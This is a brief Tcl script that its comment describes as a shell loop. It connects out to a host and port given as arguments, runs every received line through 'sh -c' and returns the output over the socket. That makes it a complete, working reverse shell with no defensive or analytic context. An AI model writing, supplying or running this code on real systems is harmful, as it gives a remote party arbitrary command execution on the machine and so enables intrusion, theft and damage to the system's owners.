# The loop of a Tcl shell: a line from the connection is run as a command, its output goes back.
set s [socket [lindex $argv 0] [lindex $argv 1]]
fconfigure $s -buffering line
while {[gets $s line] >= 0} {
    if {$line eq ""} continue
    catch {exec sh -c $line} out
    puts $s $out
}
